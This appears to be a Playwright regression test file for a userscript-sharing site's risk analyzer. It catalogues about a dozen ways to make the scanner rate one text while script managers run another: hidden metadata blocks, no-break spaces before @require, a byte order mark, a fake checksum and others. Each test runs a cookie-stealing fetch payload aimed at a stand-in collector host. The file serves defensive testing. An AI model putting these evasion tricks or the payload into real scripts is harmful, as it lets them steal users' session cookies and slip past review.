import { expect, type Page, test } from "@playwright/test";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { readScriptText } from "@scriptorium/userscript/read-script-text";
import { showCodeTab } from "../support/code-tab.ts";
import { hubOrigin, signIn } from "../support/hub.ts";
import { otherReaders } from "../support/other-readers.ts";
import { saveScriptAs } from "../support/save-script.ts";

const SITE = "https://site.example/";
const LIBRARY = "https://evil.example/lib.js";
const PAYLOAD = `fetch("https://collector.example/?c="+document.cookie,{mode:"no-cors"})`;

const block = (...lines: string[]) =>
	["// ==UserScript==", "// @name A tidy page", "// @match https://site.example/*", "// @grant none", ...lines].join(
		"\n",
	);
const END = "\n// ==/UserScript==\n";

/**
 * The ways of the first review (S1) to have one text rated and another run. `runs`: what a script manager or browser of
 * that time made of it. `remains`: accepted today, and then rated by what runs.
 */
const WAYS: readonly {
	readonly title: string;
	readonly text: string;
	readonly runs: "as-userscript" | "as-async-userscript" | "body-as-link" | "required-library" | "update" | "match";
	readonly remains?: true;
}[] = [
	{
		title: "A: an address above the block, so that the rating saw the payload as a template",
		text: `javascript:0;\n${block()}${END}String.raw %60; ${PAYLOAD}; String.raw %60;`,
		runs: "as-userscript",
	},
	{
		title: "F: an HTML-like comment, so that the rating saw the payload as a comment of a module",
		text: `${block("// @top-level-await")}${END}let y = 1;\ny <!-- y; /*\n${PAYLOAD}; //*/\nawait 0;`,
		runs: "as-async-userscript",
		remains: true,
	},
	{
		title: "G: an address below the block, which the drag link decoded",
		text: `${block()}${END}javascript:"%22;${PAYLOAD.replaceAll('"', "%22")};%22"`,
		runs: "body-as-link",
	},
	{
		title: "a decoy block in a comment, which only managers read",
		text: `/*! ${block(`// @require ${LIBRARY}`)}${END.trimEnd()} */\n${block()}${END}run();`,
		runs: "required-library",
	},
	{
		title: "a no-break space behind @require",
		text: `${block(`// @require\u00a0${LIBRARY}`)}${END}run();`,
		runs: "required-library",
	},
	{
		title: "a no-break space behind @match",
		text: `${block("// @match\u00a0*://*/*")}${END}run();`,
		runs: "match",
	},
	{
		title: "@download-URL, which stayed as the address of updates",
		text: `${block("// @download-URL https://evil.example/lib.js")}${END}run();`,
		runs: "update",
	},
	{
		title: "a @require below 5,001 other lines",
		text: `${block(`${"//\n".repeat(5_001)}// @require ${LIBRARY}`)}${END}run();`,
		runs: "required-library",
	},
	{
		title: "delimiters with text beside them, which only managers read",
		text: `${block(`// @require ${LIBRARY}`).replace("==\n", "== //\n")}${END.trimEnd()} .\n${block()}${END}run();`,
		runs: "required-library",
	},
	{
		title: "a byte order mark above the block",
		text: `\ufeff${block(`// @require ${LIBRARY}`)}${END}run();`,
		runs: "required-library",
		remains: true,
	},
	{
		title: "a checksum that is none",
		text: `${block(`// @require ${LIBRARY}#md5-${"a".repeat(24)}`)}${END}run();`,
		runs: "required-library",
		remains: true,
	},
];

/** Requests to the attacker's server, with the cookie of the page. */
async function openSite(page: Page): Promise<string[]> {
	const stolen: string[] = [];
	await page.route("**/*", async (route) => {
		const url = route.request().url();
		if (url.startsWith("https://collector.example/")) stolen.push(decodeURIComponent(url));
		if (url.startsWith(LIBRARY)) return route.fulfill({ contentType: "text/javascript", body: PAYLOAD });
		await route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Site</title>" });
	});
	await page.context().addCookies([{ name: "session", value: "secret", url: SITE }]);
	await page.goto(SITE);
	return stolen;
}

/** The values of a key in Violentmonkey's reading. */
function valuesOf(text: string, key: string): readonly string[] {
	const [violentmonkey] = otherReaders;
	return (violentmonkey?.pairsOf(text) ?? []).flatMap(([name, value]) => (name === key ? [value] : []));
}

async function runAsThen(page: Page, text: string, runs: (typeof WAYS)[number]["runs"]): Promise<void> {
	const run = (source: string) => page.addScriptTag({ content: source });
	switch (runs) {
		case "as-userscript":
			await run(`((define,module,exports)=>{${text}\n})()`);
			break;
		case "as-async-userscript":
			await run(`(async(define,module,exports)=>{${text}\n})()`);
			break;
		case "body-as-link":
			await page.evaluate(
				(url) => {
					location.href = url;
				},
				`javascript:void function(){${text.slice(text.indexOf(END) + END.length).replace(/^javascript:/, "")}}()`,
			);
			break;
		case "required-library":
		case "update":
			for (const url of valuesOf(text, runs === "update" ? "downloadURL" : "require")) await page.addScriptTag({ url });
			break;
		case "match":
			for (const pattern of valuesOf(text, "match")) if (pattern === "*://*/*") await run(PAYLOAD);
	}
}

for (const { title, text, runs, remains } of WAYS) {
	test(`${title}: it runs, and is not rated Low any more`, { tag: "@soak" }, async ({ page }) => {
		const stolen = await openSite(page);
		await runAsThen(page, text, runs);
		await expect.poll(() => stolen).toEqual(["https://collector.example/?c=session=secret"]);
		expect(readScriptText(text).ok).toBe(remains === true);
		expect(["red", "amber", "unrated"]).toContain(analyzeScript({ code: text }).risk_level);
	});
}

test("the screen shows line and column, keeps the text, and saves it after the correction", async ({ page }) => {
	await signIn(page, "Arthur Author", "/create");
	await showCodeTab(page);
	await page.getByLabel("Title").fill("Required twice");
	await page.getByLabel("Description").fill("Counts the words of the title of a page.");
	await page.getByLabel("Category").selectOption("productivity");
	const code = page.getByRole("textbox", { name: /^(Bookmarklet|Userscript) Code$/ });
	await code.click();
	await page.keyboard.insertText(`${block(`// @require\u00a0${LIBRARY}`)}${END}run();`);
	await page.getByRole("button", { name: "Create Userscript" }).click();
	await expect(page.getByText(/Line 5, column 12: This character is invisible or an unusual space/)).toBeVisible();
	await expect(page).toHaveURL(`${hubOrigin()}/create`);
	// The editor gets the focus, at the place that is named.
	await expect(code).toBeFocused();
	await page.keyboard.press("Control+a");
	await page.keyboard.insertText(`${block()}${END}alert(document.title);`);
	await page.getByRole("button", { name: "Create Userscript" }).click();
	await expect(page).toHaveURL(/\/bookmarklet\/[0-9a-f-]{36}$/);
});

test("without the screen, the database refuses each with its position", { tag: "@soak" }, async ({ page }) => {
	await signIn(page, "Arthur Author");
	for (const { title, text, remains } of WAYS) {
		if (remains) continue;
		const refusal = await saveScriptAs(page, { title: "Past the screen", code: text }).then(
			() => "saved",
			(thrown: unknown) => String(thrown),
		);
		expect([title, refusal]).toEqual([title, expect.stringMatching(/save_script: 400 .*Line \d+, column \d+: /)]);
	}
});
